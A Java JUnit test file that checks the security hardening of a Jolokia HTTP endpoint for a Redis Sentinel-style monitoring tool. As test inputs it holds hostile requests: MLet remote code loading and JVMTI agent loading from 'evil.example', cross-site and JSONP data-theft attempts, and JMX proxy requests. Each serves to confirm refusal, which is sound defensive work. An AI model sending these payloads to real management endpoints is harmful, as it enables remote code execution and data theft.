package dev.vigil.management.jolokia;

import static dev.vigil.management.TestViews.master;
import static dev.vigil.management.TestViews.replica;
import static dev.vigil.management.TestViews.sentinel;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.vigil.management.TestViews.RecordingOperations;
import dev.vigil.management.mbeans.MBeanRegistry;
import dev.vigil.management.mbeans.SentinelBean;
import java.lang.management.ManagementFactory;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/** Real Jolokia over real HTTP, as curl would use it, against MBeans built from a fixed view. */
class JolokiaEndpointTest {
  private static final String FAILOVER =
      "{\"type\":\"exec\",\"mbean\":\"vigil:type=Master,name=m1\",\"operation\":\"failover\"}";
  private static final String READ_FLAGS =
      "{\"type\":\"read\",\"mbean\":\"vigil:type=Master,name=m1\",\"attribute\":\"Flags\"}";

  private static final String GOOD_ORIGIN = "http://good.example:8080";
  private final RecordingOperations ops = new RecordingOperations();
  private MBeanRegistry registry;
  private JolokiaEndpoint jolokia;
  private JolokiaHttp http;

  @BeforeEach
  void start() {
    registry =
        new MBeanRegistry(
            ManagementFactory.getPlatformMBeanServer(),
            () -> sentinel(master("m1", 6379, List.of(replica(6380, 1, null)))),
            ops,
            new SentinelBean.Ports(0, 0, 0),
            System::currentTimeMillis);
    registry.start();
    jolokia =
        JolokiaEndpoint.start(
            new JolokiaSettings(
                JolokiaSettings.DEFAULT_HOST,
                0,
                List.of(
                    new JolokiaUser("admin", "s3cret", Role.READWRITE),
                    new JolokiaUser("viewer", "look", Role.READONLY)),
                null,
                Set.of(GOOD_ORIGIN)));
    http = new JolokiaHttp(jolokia.url());
  }

  @AfterEach
  void stop() {
    registry.close();
    if (jolokia != null) {
      jolokia.close();
    }
  }

  @Test
  void bindsToLoopbackByDefault() {
    assertEquals("127.0.0.1", jolokia.host());
    assertTrue(jolokia.url().startsWith("http://127.0.0.1:" + jolokia.port() + "/jolokia"));
  }

  @Test
  void noOrWrongCredentialsGet401() throws Exception {
    assertEquals(401, http.post(null, null, READ_FLAGS).httpStatus());
    assertEquals(401, http.post("admin", "wrong", READ_FLAGS).httpStatus());
    assertEquals(401, http.post("viewer", "s3cret", READ_FLAGS).httpStatus());
    assertEquals(List.of(), ops.calls);
  }

  @Test
  void readOnlyUserReadsEverythingButGets403OnFailover() throws Exception {
    JolokiaHttp.Reply read = http.post("viewer", "look", READ_FLAGS);
    assertEquals(200, read.jolokiaStatus(), read.body());
    assertEquals("master", read.value());

    JolokiaHttp.Reply replica =
        http.post(
            "viewer",
            "look",
            "{\"type\":\"read\",\"mbean\":\"vigil:type=Replica,master=m1,name=\\\"127.0.0.1:6380\\\"\"}");
    assertEquals(200, replica.jolokiaStatus(), replica.body());
    assertEquals(1L, ((Map<?, ?>) replica.value()).get("PromotionRank"));

    JolokiaHttp.Reply exec = http.post("viewer", "look", FAILOVER);
    assertEquals(403, exec.jolokiaStatus(), exec.body());
    assertEquals(List.of(), ops.calls, "a refused operation must never reach the engine");
  }

  @Test
  void readWriteUserRunsFailoverButNotForeignOperations() throws Exception {
    JolokiaHttp.Reply exec = http.post("admin", "s3cret", FAILOVER);
    assertEquals(200, exec.jolokiaStatus(), exec.body());
    assertEquals("OK", exec.value());
    assertEquals(List.of("failover m1"), ops.calls);

    JolokiaHttp.Reply gc =
        http.post(
            "admin",
            "s3cret",
            "{\"type\":\"exec\",\"mbean\":\"java.lang:type=Memory\",\"operation\":\"gc\"}");
    assertEquals(403, gc.jolokiaStatus(), gc.body());
  }

  @Test
  void sentinelErrorsComeBackAsErrorsNotSuccess() throws Exception {
    ops.error = "NOGOODSLAVE No suitable replica to promote";
    JolokiaHttp.Reply exec = http.post("admin", "s3cret", FAILOVER);
    assertNotEquals(200, exec.jolokiaStatus(), exec.body());
    assertTrue(exec.body().contains("NOGOODSLAVE No suitable replica to promote"), exec.body());
  }

  @Test
  void theUnauthenticatedConfigContextIsDeniedEverything() throws Exception {
    JolokiaHttp.Reply r = http.post(jolokia.url() + "/config", null, null, FAILOVER);
    assertTrue(r.httpStatus() != 200 || r.jolokiaStatus() == 403, r.httpStatus() + " " + r.body());
    assertEquals(List.of(), ops.calls);
  }

  @Test
  void listShowsTheVigilDomain() throws Exception {
    JolokiaHttp.Reply list = http.post("viewer", "look", "{\"type\":\"list\",\"path\":\"vigil\"}");
    assertEquals(200, list.jolokiaStatus(), list.body());
    Map<?, ?> domain = (Map<?, ?>) list.value();
    assertTrue(domain.containsKey("type=Sentinel"), domain.keySet().toString());
    assertTrue(domain.containsKey("type=Master,name=m1"), domain.keySet().toString());
  }

  private JolokiaHttp.Reply asAdmin(String method, String path, String body, Map<String, String> h)
      throws Exception {
    return http.send(method, jolokia.url() + path, "admin", "s3cret", body, h);
  }

  @Test
  void anonymousExecAndWriteAreRefusedWith401() throws Exception {
    assertEquals(401, http.post(null, null, FAILOVER).httpStatus());
    assertEquals(
        401,
        http.send(
                "GET",
                jolokia.url() + "/exec/vigil:type=Master,name=m1/failover",
                null,
                null,
                null,
                Map.of())
            .httpStatus());
    assertEquals(401, http.post(null, null, WRITE_VERBOSE).httpStatus());
    assertEquals(List.of(), ops.calls);
  }

  private static final String WRITE_VERBOSE =
      "{\"type\":\"write\",\"mbean\":\"java.lang:type=ClassLoading\",\"attribute\":\"Verbose\","
          + "\"value\":true}";

  @Test
  void nobodyWritesAttributes() throws Exception {
    JolokiaHttp.Reply write = http.post("admin", "s3cret", WRITE_VERBOSE);
    assertEquals(403, write.jolokiaStatus(), write.body());
    assertEquals(403, http.post("viewer", "look", WRITE_VERBOSE).jolokiaStatus());
  }

  @Test
  void aForeignOriginIsRefusedBeforeAuthenticationAndGetsNoCorsGrant() throws Exception {
    JolokiaHttp.Reply evil = asAdmin("POST", "", FAILOVER, Map.of("Origin", "http://evil.example"));
    assertEquals(403, evil.httpStatus(), evil.body());
    assertNull(evil.header("Access-Control-Allow-Origin"));
    assertNull(evil.header("Access-Control-Allow-Credentials"));
    JolokiaHttp.Reply nullOrigin = asAdmin("POST", "", READ_FLAGS, Map.of("Origin", "null"));
    assertEquals(403, nullOrigin.httpStatus());
    JolokiaHttp.Reply preflight =
        asAdmin(
            "OPTIONS",
            "",
            null,
            Map.of("Origin", "http://evil.example", "Access-Control-Request-Method", "POST"));
    assertEquals(403, preflight.httpStatus());
    assertNull(preflight.header("Access-Control-Allow-Origin"));
    assertEquals(List.of(), ops.calls);
  }

  @Test
  void pagesOfOtherSitesAreRefusedEvenWithoutAnOriginHeader() throws Exception {
    // What a browser sends for <img src=...> or <script src=...> from another site.
    JolokiaHttp.Reply img =
        asAdmin(
            "GET",
            "/exec/vigil:type=Master,name=m1/failover",
            null,
            Map.of("Sec-Fetch-Site", "cross-site"));
    assertEquals(403, img.httpStatus(), img.body());
    JolokiaHttp.Reply referred =
        asAdmin(
            "GET",
            "/exec/vigil:type=Master,name=m1/failover",
            null,
            Map.of("Referer", "http://evil.example/page.html"));
    assertEquals(403, referred.httpStatus(), referred.body());
    assertEquals(List.of(), ops.calls);
  }

  @Test
  void onlyAConfiguredOriginGetsACredentialedCorsGrant() throws Exception {
    JolokiaHttp.Reply plain = asAdmin("POST", "", READ_FLAGS, Map.of());
    assertNull(plain.header("Access-Control-Allow-Origin"));

    JolokiaHttp.Reply good = asAdmin("POST", "", READ_FLAGS, Map.of("Origin", GOOD_ORIGIN));
    assertEquals(200, good.jolokiaStatus(), good.body());
    assertEquals(GOOD_ORIGIN, good.header("Access-Control-Allow-Origin"));
    assertEquals("true", good.header("Access-Control-Allow-Credentials"));

    JolokiaHttp.Reply preflight =
        http.send(
            "OPTIONS",
            jolokia.url(),
            null,
            null,
            null,
            Map.of("Origin", GOOD_ORIGIN, "Access-Control-Request-Method", "POST"));
    assertEquals(204, preflight.httpStatus());
    assertEquals(GOOD_ORIGIN, preflight.header("Access-Control-Allow-Origin"));
  }

  @Test
  void jsonpIsRefused() throws Exception {
    JolokiaHttp.Reply jsonp =
        asAdmin("GET", "/read/vigil:type=Master,name=m1/Flags?callback=steal", null, Map.of());
    assertEquals(403, jsonp.httpStatus(), jsonp.body());
    assertFalse(jsonp.body().contains("steal("), jsonp.body());
    assertTrue(jsonp.body().contains(BrowserGuard.JSONP_REFUSED), jsonp.body());
  }

  @Test
  void proxyRequestsAreRefusedNotServedLocally() throws Exception {
    String proxied =
        "{\"type\":\"read\",\"mbean\":\"java.lang:type=Runtime\",\"attribute\":\"Name\","
            + "\"target\":{\"url\":\"service:jmx:rmi:///jndi/rmi://127.0.0.1:1/jmxrmi\"}}";
    for (String[] login : new String[][] {{"admin", "s3cret"}, {"viewer", "look"}}) {
      JolokiaHttp.Reply r = http.post(login[0], login[1], proxied);
      assertEquals(403, r.jolokiaStatus(), r.body());
      assertTrue(r.body().contains(ProxyRefusal.REFUSED), r.body());
    }
  }

  @Test
  void codeLoadingAndDiagnosticOperationsAreRefusedToEveryone() throws Exception {
    String[][] calls = {
      {"javax.management.loading:type=MLet", "getMBeansFromURL(java.lang.String)"},
      {"com.sun.management:type=DiagnosticCommand", "vmVersion"},
      {"com.sun.management:type=DiagnosticCommand", "jvmtiAgentLoad"},
      {"com.sun.management:type=HotSpotDiagnostic", "dumpHeap"},
      {"jdk.management.jfr:type=FlightRecorder", "newRecording"},
      {"java.util.logging:type=Logging", "setLoggerLevel"},
    };
    for (String[] call : calls) {
      for (String[] login : new String[][] {{"admin", "s3cret"}, {"viewer", "look"}}) {
        JolokiaHttp.Reply r =
            http.post(
                login[0],
                login[1],
                "{\"type\":\"exec\",\"mbean\":\""
                    + call[0]
                    + "\",\"operation\":\""
                    + call[1]
                    + "\",\"arguments\":[\"http://evil.example/x.mlet\"]}");
        assertEquals(403, r.jolokiaStatus(), login[0] + " " + call[0] + " " + r.body());
      }
    }
  }

  @Test
  void versionTellsTheTruthAboutAuthentication() throws Exception {
    JolokiaHttp.Reply v =
        http.send("GET", jolokia.url() + "/version", "viewer", "look", null, Map.of());
    assertEquals(200, v.jolokiaStatus(), v.body());
    Map<?, ?> value = (Map<?, ?>) v.value();
    Map<?, ?> details = (Map<?, ?>) value.get("details");
    assertEquals(Boolean.TRUE, details.get("secured"), v.body());
    assertEquals(
        401, http.send("GET", jolokia.url() + "/version", null, null, null, Map.of()).httpStatus());
    assertTrue(
        jolokia.access().startsWith("HTTP Basic authentication required;"), jolokia.access());
    assertFalse(jolokia.access().contains("s3cret"), jolokia.access());
  }
}
